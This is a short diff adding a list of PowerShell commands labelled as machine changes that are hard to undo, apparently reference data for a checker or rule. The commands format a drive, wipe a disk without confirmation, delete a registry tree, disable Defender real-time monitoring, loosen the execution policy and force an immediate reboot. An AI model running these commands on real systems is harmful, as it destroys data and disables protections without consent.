@@ -0,0 +1,9 @@
+# Changes to the machine that are hard to undo
+Format-Volume -DriveLetter D -FileSystem NTFS
+Clear-Disk -Number 1 -RemoveData -Confirm:$false
+Set-ExecutionPolicy Unrestricted -Force
+Remove-Item -Path HKLM:\SOFTWARE\Contoso -Recurse
+Set-MpPreference -DisableRealtimeMonitoring $true
+Stop-Service -Name Spooler
+shutdown.exe /r `
+    /t 0